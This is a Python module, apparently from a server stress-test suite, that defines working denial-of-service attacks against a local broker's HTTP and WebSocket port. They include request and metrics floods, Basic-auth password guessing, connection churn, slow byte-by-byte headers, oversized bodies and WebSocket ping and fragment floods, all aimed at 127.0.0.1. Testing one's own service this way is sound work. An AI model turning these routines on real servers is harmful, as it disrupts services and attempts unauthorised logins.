"""Attacks on the HTTP port: each goes on until a time, with as many connections as HTTP has places."""

from __future__ import annotations

import socket
import time
from base64 import b64encode
from collections.abc import Mapping
from contextlib import suppress

from bench.attacks.catalogue import Attack

PLACES = 32
READ_BYTES = 262_144


def head(line: str, *headers: str) -> bytes:
    """A request's head."""
    return "\r\n".join([f"{line} HTTP/1.1", "Host: 127.0.0.1", *headers, "", ""]).encode()


def flood(sent: bytes, first: bytes = b"") -> Attack:
    """Send it again and again on every connection, as fast as it is taken; answers are thrown away.
    ``first`` goes before it once on each.
    """

    def run(port: int, until_s: float) -> None:
        clients: dict[int, socket.socket] = {}
        while time.monotonic() < until_s:
            for number in range(PLACES):
                client = clients.get(number)
                try:
                    if client is None:
                        client = clients[number] = socket.create_connection(("127.0.0.1", port), timeout=5)
                        client.sendall(first)
                        client.setblocking(False)
                    with suppress(BlockingIOError):
                        client.send(sent)
                    with suppress(BlockingIOError):
                        if not client.recv(READ_BYTES):
                            raise ConnectionResetError
                except OSError:
                    if client is not None:
                        client.close()
                    clients.pop(number, None)
            time.sleep(0.001)

    return run


def guess(number: int) -> bytes:
    """A password that is none."""
    said = b64encode(f"alice:{number}".encode()).decode()
    return head("GET /api/v1/broker", f"Authorization: Basic {said}")


def _churn(port: int, until_s: float) -> None:
    """Connect and hang up."""
    while time.monotonic() < until_s:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=5) as client:
            client.send(b"GET")


def _slowly(port: int, until_s: float) -> None:
    """As many heads as there are places, a byte each now and then."""
    clients: list[socket.socket] = []
    said = head("GET /api/v1/queues", "X: " + "y" * 500)
    at = 0
    while time.monotonic() < until_s:
        while len(clients) < PLACES:
            clients.append(socket.create_connection(("127.0.0.1", port), timeout=5))
        for client in list(clients):
            try:
                client.send(said[at % 400 : at % 400 + 1])
            except OSError:
                client.close()
                clients.remove(client)
        at += 1
        time.sleep(0.02)


def masked(opcode: int, payload: bytes, *, final: bool = True) -> bytes:
    """A client's frame of WebSocket, under a mask of zeros."""
    return bytes((opcode | (0x80 if final else 0), 0x80 | len(payload))) + bytes(4) + payload


UPGRADE = head(
    "GET /",
    "Upgrade: websocket",
    "Connection: Upgrade",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: " + b64encode(bytes(16)).decode(),
    "Sec-WebSocket-Protocol: amqp",
)
AMQP = b"AMQP\x00\x01\x00\x00"
# An open of an empty container-id, as a client may that is on this machine.
OPEN = b"\x00\x00\x00\x11\x02\x00\x00\x00\x00\x53\x10\xc0\x04\x01\xa1\x01x"
HEARTBEAT = b"\x00\x00\x00\x08\x02\x00\x00\x00"
BINARY, PING = 2, 9

WEB_ATTACKS: Mapping[str, Attack] = {
    "HTTP requests without end": flood(head("GET /api/v1/queues") * 50),
    "metrics without end": flood(head("GET /metrics")),
    "guessed passwords": flood(b"".join(map(guess, range(20)))),
    "heads byte by byte": flood(b"X"),
    "bodies without end": flood(
        head("POST /api/v1/queues", "Content-Type: application/json", "Content-Length: 100000")
        + b" " * 50_000
    ),
    "HTTP connections without end": _churn,
    "slow HTTP": _slowly,
    "WebSocket pings": flood(masked(PING, b"x" * 100) * 300, UPGRADE),
    "WebSocket dust": flood(b"".join(masked(0, b"\x00", final=False) for _ in range(500)), UPGRADE),
    "WebSocket frames of a heartbeat each": flood(
        masked(BINARY, HEARTBEAT) * 500, UPGRADE + masked(BINARY, AMQP) + masked(BINARY, OPEN)
    ),
}
